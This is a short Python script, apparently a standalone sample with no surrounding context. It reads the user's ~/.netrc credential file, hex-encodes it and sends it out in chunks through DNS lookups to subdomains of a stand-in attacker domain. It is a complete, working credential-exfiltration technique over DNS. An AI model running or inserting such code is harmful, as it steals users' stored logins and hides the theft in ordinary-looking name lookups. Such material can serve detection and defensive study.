# mypy: ignore-errors
import socket
from pathlib import Path

secret = Path.home().joinpath(".netrc").read_bytes().hex()
for i in range(0, len(secret), 60):
    socket.gethostbyname(f"{secret[i:i + 60]}.t.attacker-domain.example")
